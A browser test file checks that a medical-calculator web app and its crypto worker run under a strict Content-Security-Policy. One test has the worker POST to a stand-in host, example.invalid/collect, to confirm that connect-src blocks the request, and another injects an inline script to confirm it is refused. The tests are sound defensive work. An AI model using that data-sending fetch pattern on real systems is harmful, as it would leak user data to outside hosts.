/**
 * The app must run under the strict Content-Security-Policy planned for production: no inline
 * script or style, no eval, the worker and every request from this origin only.
 */

import { expect, test } from 'vitest';
import { readStore, type VaultRecordJson } from './custody.js';
import { setUpBrowserTests } from './harness.js';
import {
  BMI_TITLE,
  CHA2DS2_VASC_TITLE,
  computeResult,
  fillBmi,
  fillCha2ds2Vasc,
  navigateToComputation,
  openComputation,
} from './pages.js';

const browserTests = setUpBrowserTests();

const STRICT_CSP = [
  "default-src 'none'",
  "script-src 'self'",
  "worker-src 'self'",
  "style-src 'self'",
  "img-src 'self'",
  // The web app manifest (installable PWA); without it default-src 'none' blocks the manifest.
  "manifest-src 'self'",
  "connect-src 'self'",
  "base-uri 'none'",
  "form-action 'none'",
  "frame-ancestors 'none'",
].join('; ');

test('computes under a strict CSP without a single violation', async () => {
  const context = await browserTests.newContext();
  // Add the policy to every page the server sends (the service may set its own later).
  await context.route(
    (url) => !url.pathname.startsWith('/api/') && !url.pathname.startsWith('/assets/'),
    async (route) => {
      const response = await route.fetch();
      await route.fulfill({
        response,
        headers: { ...response.headers(), 'content-security-policy': STRICT_CSP },
      });
    },
  );
  const page = await context.newPage();
  const problems: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') problems.push(message.text());
  });
  page.on('pageerror', (error) => problems.push(error.message));

  await openComputation(page, BMI_TITLE);
  const policy = await page.evaluate(async () =>
    (await fetch(location.href)).headers.get('content-security-policy'),
  );
  expect(policy).toBe(STRICT_CSP);
  await fillBmi(page, { weight: '70', weightUnit: 'kg', height: '175', heightUnit: 'cm' });
  expect((await computeResult(page)).value).toMatch(/kg\/m²$/);
  await page.getByTestId('key-fingerprint').waitFor();
  expect(problems).toEqual([]);

  // The policy is really enforced: an inline script is refused.
  const inlineRan = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'document.body.dataset.inlineRan = "yes";';
    document.body.append(script);
    return document.body.dataset.inlineRan;
  });
  expect(inlineRan).toBeUndefined();
});

test('the crypto worker runs under its own policy: it computes and unlocks (WebAssembly) without a violation, and cannot connect elsewhere', async () => {
  const context = await browserTests.newContext({ protection: 'fresh' });
  const page = await context.newPage();
  const problems: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') problems.push(message.text());
  });
  await page.goto('/keys');
  const choice = page.getByTestId('protection-choice');
  await choice.getByLabel('Passphrase', { exact: true }).fill('quartz meadow lantern oyster violin');
  await choice.getByLabel('Passphrase again', { exact: true }).fill('quartz meadow lantern oyster violin');
  await choice.getByRole('button', { name: 'Protect with this passphrase' }).click();
  await page.getByTestId('current-keys').waitFor();
  const [worker] = page.workers();
  if (!worker) throw new Error('No crypto worker started.');
  const served = await page.evaluate(
    async (url) => (await fetch(url)).headers.get('content-security-policy'),
    worker.url(),
  );
  expect(served).toBe(
    "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
  );
  // Argon2id ran in libsodium's WebAssembly: the passphrase's key derivation is the stored one.
  const vault = (await readStore(page, 'sealed-vitals', 'keys')).vault as VaultRecordJson;
  expect(vault.unlockers[0]?.kdf?.name).toBe('argon2id');
  const violated = await worker.evaluate(async () => {
    const scope = self as unknown as EventTarget;
    const seen = new Promise<string>((resolve) =>
      scope.addEventListener('securitypolicyviolation', (event) =>
        resolve((event as SecurityPolicyViolationEvent).effectiveDirective),
      ),
    );
    void fetch('https://example.invalid/collect', { method: 'POST', body: 'x' }).catch(() => undefined);
    return Promise.race([seen, new Promise<string>((resolve) => setTimeout(() => resolve('none'), 3000))]);
  });
  expect(violated).toBe('connect-src');
  await navigateToComputation(page, CHA2DS2_VASC_TITLE);
  await fillCha2ds2Vasc(page, { age: 72, sex: 'Female', conditions: ['Hypertension'] });
  expect((await computeResult(page)).value).toMatch(/^\d/);
  expect(problems.filter((text) => !text.includes('example.invalid'))).toEqual([]);
});
